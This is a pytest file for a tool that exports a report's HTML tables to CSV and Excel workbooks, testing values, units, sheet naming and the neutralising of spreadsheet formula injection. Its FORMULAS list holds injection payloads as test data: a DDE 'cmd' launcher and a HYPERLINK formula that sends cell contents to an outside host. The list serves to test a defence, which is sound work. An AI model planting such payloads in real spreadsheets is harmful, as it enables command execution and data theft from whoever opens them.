"""The tables of a page as CSV and as a workbook: what the page shows, exact, and nothing that a sheet would run."""

from __future__ import annotations

import csv
import io
import json
import re
import shutil
import subprocess
from html import unescape
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

from channelnb.formulas import harmless, is_formula
from channelnb.narrative.facts import Fact
from channelnb.report.page import PageInfo
from channelnb.report.page_tables import Cell, Figure, Head, PageTable, tables_of
from channelnb.report.table_files import COLUMNS, CONTENTS, Units, tables_csv, tables_xlsx
from channelnb.report.tables import ColumnFormat, table

PAGE = PageInfo("Ada: Review", vendor="Acme", period="2026Q3", as_of="2026-09-30", made_on="2026-10-05")
GROWTH = Fact("growth_yoy", "2026Q3", 0.081234, unit="share")
REVENUE = Fact("revenue", "2026Q3", 1_234_567.891, unit="money")
UNKNOWN = Fact("win_rate", "2026Q3", None, unit="share", state="no_data")
UNITS = Units({fact.id: fact.unit for fact in (GROWTH, REVENUE, UNKNOWN)}, "EUR")

FORMULAS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\N{NO-BREAK SPACE}=1+1",
    "\N{FULLWIDTH EQUALS SIGN}1+1",
    "\N{FULLWIDTH PLUS SIGN}1",
    "\N{FULLWIDTH HYPHEN-MINUS}1",
    "\N{FULLWIDTH COMMERCIAL AT}SUM(A1)",
    '=HYPERLINK("https://a.example/?x="&A1,"look")',
    "=cmd|' /C calc'!A0",
)


def rows_of(content: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def sheets_of(content: bytes) -> openpyxl.Workbook:
    return openpyxl.load_workbook(io.BytesIO(content))


def shown(frame: pd.DataFrame, **columns: ColumnFormat) -> list[PageTable]:
    return tables_of(table(frame, id="t", columns=columns, caption="Lines", currency="EUR").html)


def grid(found: PageTable) -> list[list[str]]:
    return [[cell.text for cell in row] for row in found.rows]


@pytest.mark.parametrize(
    "html, title, heads, rows",
    [
        ("<h2>Why?</h2><table><tr><th>A<th>B<tr><td>1<td>2</table>", "Why?", "AB", [["1", "2"]]),
        ("<h2>Why?</h2><table><caption>So &amp; so</caption><tr><td>1</td></tr></table>", "So & so", [""], [["1"]]),
        ("<table><thead><tr><th>A</th></tr></thead><tfoot><tr><td>9</td></tr></tfoot></table>", "Table", "A", [["9"]]),
        ("<h3>Of a part</h3><p>x</p><table><tr><th>A</th><td>1</td></tr></table>", "Of a part", ["", ""], [["A", "1"]]),
        ("<table><tr><td colspan=2>1</td></tr><tr><td>2</td><td>3</td></tr></table>", "Table", ["", ""], ["11", "23"]),
        ("<table><tr><td rowspan=2>1</td><td>2</td></tr><tr><td>3</td></tr></table>", "Table", ["", ""], ["12", "13"]),
        ("<table><tr><td>1</td></tr><tr><td>2</td><td>3</td></tr></table>", "Table", ["", ""], [["1", ""], "23"]),
        ("<table><tr><td>a<table><tr><td>b</td></tr></table>c</td></tr></table>", "Table", [""], [["a b c"]]),
        ("<h1>Ada</h1><table><thead><tr></tr></thead><tr><td>1</td></tr></table>", "Ada", [""], ["1"]),
        ("<table><tr><td>a<br>b <small>c</small></td></tr></table>", "Table", [""], [["a b c"]]),
        ('<table><tr><td>a<img alt="<td>" src="data:image/png;base64,"></td></tr></table>', "Table", [""], ["a"]),
    ],
)
def test_a_table_is_read_as_it_is_drawn(html, title, heads, rows):
    [found] = tables_of(html)
    assert found.title == title
    assert [head.label for head in found.heads] == list(heads)
    assert grid(found) == [list(row) for row in rows]


def test_columns_have_their_unit_and_their_group():
    frame = pd.DataFrame({"line": ["Disks"], "plan": [REVENUE], "growth": [GROWTH]})
    [found] = shown(
        frame,
        line=ColumnFormat("Line"),
        plan=ColumnFormat("Plan", "money", group="This & that"),
        growth=ColumnFormat("Growth", "share", group="This & that"),
    )
    assert found.heads == (Head("Line"), Head("Plan", "EUR k", "This & that"), Head("Growth", "%", "This & that"))
    assert found.rows[0][1] == Cell("1,235", (Figure(1_234_567.891, "1,235", REVENUE.id),))


def test_tables_of_one_title_are_told_apart():
    html = "<h2>Why?</h2>" + "<table><tr><td>1</td></tr></table>" * 3
    assert [found.title for found in tables_of(html)] == ["Why?", "Why? (2)", "Why? (3)"]


def test_the_csv_has_each_figure_exact_with_its_unit_and_as_it_is_shown():
    frame = pd.DataFrame({"line": ["Disks"], "plan": [REVENUE], "growth": [GROWTH], "won": [UNKNOWN], "n": [12_345]})
    formats = {"line": ColumnFormat("Line"), "plan": ColumnFormat("Plan", "money")}
    formats |= {"growth": ColumnFormat("Growth", "share"), "won": ColumnFormat("Won", "share")}
    content = tables_csv(shown(frame, **formats, n=ColumnFormat("Calls", "count")), UNITS)
    at = {"table": "Lines", "row_number": "1", "row": "Disks", "group": ""}
    assert rows_of(content) == [
        at | dict(zip(COLUMNS[3:5] + COLUMNS[6:], told, strict=True))
        for told in [
            ("2", "Plan", "1234567.891", "EUR", "1,235", "EUR k", REVENUE.id),
            ("3", "Growth", "0.081234", "share", "8.1", "%", GROWTH.id),
            ("4", "Won", "", "share", "no data", "%", UNKNOWN.id),
            ("5", "Calls", "12345", "", "12,345", "", ""),
        ]
    ]


def test_a_cell_of_two_figures_has_a_row_for_each_and_a_name_alone_has_one():
    html = '<table><tr><td><data value="0.2">20</data> to <data value="0.5">50 %</data></td></tr></table>'
    found = rows_of(tables_csv(tables_of(html), Units()))
    assert [(row["value"], row["shown"]) for row in found] == [("0.2", "20 to 50 %"), ("0.5", "20 to 50 %")]
    assert [row["shown"] for row in rows_of(tables_csv(tables_of("<table><tr><td>Ada</table>"), Units()))] == ["Ada"]


def test_the_workbook_says_what_it_is_of_and_has_a_sheet_for_each_table():
    html = "<h2>Why?</h2>" + "<table><tr><th>A</th><th>B</th></tr><tr><td>1</td><td>2</td></tr></table>" * 2
    book = sheets_of(tables_xlsx(tables_of(html), Units(), page=PAGE))
    assert book.sheetnames == [CONTENTS, "1 Why", "2 Why (2)"]
    told = [cell.value for row in book[CONTENTS].iter_rows() for cell in row if cell.value]
    assert told[:3] == ["Ada: Review", "Acme", "Period 2026Q3"]
    assert "What was known on 30 September 2026" in told
    assert told[-4:] == ["1 Why", "Why?", "2 Why (2)", "Why? (2)"]
    assert book.properties.title == "Ada: Review"
    assert not book.properties.creator


def test_the_workbook_holds_exact_numbers_in_a_fitting_format_and_other_cells_as_text():
    frame = pd.DataFrame({"line": ["Disks", "Tape"], "plan": [REVENUE, None], "growth": [GROWTH, UNKNOWN]})
    formats = {"plan": ColumnFormat("Plan", "money"), "growth": ColumnFormat("Growth", "share")}
    found = shown(frame, line=ColumnFormat("Line"), **formats)
    sheet = sheets_of(tables_xlsx(found, UNITS, page=PAGE))["1 Lines"]
    assert [cell.value for cell in sheet[1]] == ["Line", "Plan (EUR)", "Growth (%)"]
    assert [cell.value for cell in sheet[2]] == ["Disks", 1_234_567.891, 0.081234]
    assert [cell.number_format for cell in sheet[2]][1:] == ["#,##0", "0.0%"]
    assert [cell.value for cell in sheet[3]] == ["Tape", "–", "no data"]


def test_an_arrow_does_not_make_a_text_of_a_figure_and_words_do():
    figure = '<data value="-0.05">5 %</data>'
    html = f"<table><tr><td>▼ {figure}</td><td>behind by {figure}</td></tr></table>"
    sheet = sheets_of(tables_xlsx(tables_of(html), Units(), page=PAGE))["1 Table"]
    assert [cell.value for cell in sheet[2]] == [-0.05, "behind by 5 %"]


@pytest.mark.parametrize("text", FORMULAS)
def test_no_text_is_a_formula(text):
    assert is_formula(text)
    frame = pd.DataFrame({"line": [text], "growth": [GROWTH]})
    html = table(frame, id="t", columns={"line": ColumnFormat(text), "growth": ColumnFormat(text)}, caption=text).html
    found = tables_of(html)
    for row in csv.reader(io.StringIO(tables_csv(found, UNITS).decode(), newline="")):
        assert not [cell for cell in row if is_formula(cell)]
    book = sheets_of(tables_xlsx(found, UNITS, page=PageInfo(text, vendor=text)))
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row if isinstance(cell.value, str)]
    assert {cell.data_type for cell in cells} == {"s"}
    told = [cell for cell in cells if is_formula(cell.value)]
    assert len(told) >= 4
    assert all(cell.quotePrefix for cell in told)


def test_a_number_below_zero_stays_a_number():
    frame = pd.DataFrame({"line": ["Disks"], "n": [-12.5]})
    found = shown(frame, line=ColumnFormat("Line"), n=ColumnFormat("Change", "number"))
    assert rows_of(tables_csv(found, Units()))[0]["value"] == "-12.5"
    assert sheets_of(tables_xlsx(found, Units(), page=PAGE))["1 Lines"]["B2"].value == -12.5


@pytest.mark.parametrize("text", ["a;=1+1", "a; -1", "a;\N{FULLWIDTH EQUALS SIGN}1", 'a;"=1+1;b', 'a; "" =1+1;b'])
def test_a_semicolon_begins_no_formula_where_files_are_cut_at_them(text):
    assert not any(is_formula(cell) for cell in harmless(text).split(";"))
    written = io.StringIO()
    csv.writer(written).writerow(["x", harmless(text)])
    assert not any(is_formula(cell) for [*row] in csv.reader([written.getvalue()], delimiter=";") for cell in row)


@pytest.mark.parametrize("text", ["Disks", "Ümlaut", "a-b", "1 = 1", "mail@acme.example", "–", "−5", "a; b", ""])
def test_other_text_stays_as_it_is(text):
    assert harmless(text) == text


def test_what_a_workbook_cannot_hold_is_taken_out_and_a_long_text_cut():
    odd = "a\x00\x08\x0b\x1bb\ufffe_x000D_"
    cell, long = Cell(odd), Cell("x" * 40_000)
    found = [PageTable(odd, (Head(odd), Head("B")), ((cell, long),))]
    sheet = sheets_of(tables_xlsx(found, Units(), page=PageInfo(odd)))["1 ab_x000D_"]
    assert sheet["A1"].value == "ab_x000D_"
    assert sheet["A2"].value == "ab_x000D_"
    assert (len(sheet["B2"].value), sheet["B2"].value[-1]) == (32_767, "…")
    assert rows_of(tables_csv(found, Units()))[0]["row"] == "ab_x000D_"


@pytest.mark.parametrize(
    "title", ["[a]:*?/\\'b'", "'", "History", "x" * 80, "Plan and actual of all the lines sold", ""]
)
def test_any_title_makes_a_sheet(title):
    found = [PageTable(title, (Head("A"),), ((Cell("1"),),))] * 3
    names = sheets_of(tables_xlsx(found, Units(), page=PAGE)).sheetnames
    assert len({name.casefold() for name in names}) == 4
    assert all(0 < len(name) <= 31 and not re.search(r"[\[\]:*?/\\']", name) for name in names)


def test_the_same_tables_make_the_same_bytes():
    frame = pd.DataFrame({"line": ["=Disks"], "plan": [REVENUE]})
    found = shown(frame, line=ColumnFormat("Line"), plan=ColumnFormat("Plan", "money"))
    assert tables_xlsx(found, UNITS, page=PAGE) == tables_xlsx(found, UNITS, page=PAGE)
    assert tables_csv(found, UNITS) == tables_csv(found, UNITS)


@pytest.mark.skipif(not shutil.which("soffice"), reason="LibreOffice is not installed")
def test_libreoffice_opens_the_files_and_runs_nothing_of_them(tmp_path):
    frame = pd.DataFrame({"line": [*FORMULAS, "Tape"], "plan": [REVENUE] * (len(FORMULAS) + 1)})
    found = shown(frame, line=ColumnFormat("Line"), plan=ColumnFormat("Plan", "money"))
    (tmp_path / "book.xlsx").write_bytes(tables_xlsx(found, UNITS, page=PAGE))
    (tmp_path / "cells.csv").write_bytes(tables_csv(found, UNITS))
    to = "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,-1"
    settings = f"-env:UserInstallation={(tmp_path / 'office').as_uri()}"
    into = ["--convert-to", to, "--outdir", str(tmp_path / "out")]
    command = ["soffice", settings, "--headless", *into, str(tmp_path / "book.xlsx"), str(tmp_path / "cells.csv")]
    subprocess.run(command, check=True, capture_output=True, timeout=120)
    texts = [" ".join(text.split()) for text in (*FORMULAS, "Tape")]
    lines = opened(tmp_path / "out" / "book-1 Lines.csv")
    assert lines[0] == ["Line", "Plan (EUR)"]
    assert [row[0] for row in lines[1:]] == texts
    assert {row[1] for row in lines[1:]} == {"1234567.891"}
    [cells] = (tmp_path / "out").glob("cells*.csv")
    # It takes a CSV file for one in the letters of Western Europe, unless somebody says otherwise.
    rows = zip(texts, opened(cells)[1:], strict=True)
    assert all(row[COLUMNS.index("row")] == harmless(text) for text, row in rows if text.isascii())


def opened(path: Path) -> list[list[str]]:
    return list(csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"), newline="")))


def test_each_page_of_a_run_leads_to_files_that_hold_what_its_tables_show(sample_run):
    pages = [*sample_run.rglob("*.html")]
    tabled = [page for page in pages if page.name != "index.html" and "<table" in page.read_text(encoding="utf-8")]
    assert len(tabled) >= 20
    for page in tabled:
        html, as_csv, as_workbook = (
            page.read_text(encoding="utf-8"),
            page.with_suffix(".csv"),
            page.with_suffix(".xlsx"),
        )
        assert f'href="{as_csv.name}"' in html
        assert f'href="{as_workbook.name}"' in html
        facts = json.loads(page.with_suffix(".facts.json").read_text(encoding="utf-8"))["facts"]
        check_figures(html, as_csv, {fact["id"]: fact["value"] for fact in facts})
        assert len(sheets_of(as_workbook.read_bytes()).sheetnames) == html.count("<table") + 1


def check_figures(html: str, path: Path, facts: dict[str, float | None]) -> None:
    tables = "".join(re.findall(r"<table.*?</table>", html, re.DOTALL))
    stated = sorted(unescape(one) for one in re.findall(r'<data\b[^>]*\bdata-fact="([^"]*)"', tables))
    rows = rows_of(path.read_bytes())
    assert sorted(row["fact"] for row in rows if row["fact"]) == stated
    for row in rows:
        if row["fact"]:
            assert (float(row["value"]) if row["value"] else None) == facts[row["fact"].removeprefix("'")]
            assert row["unit"]
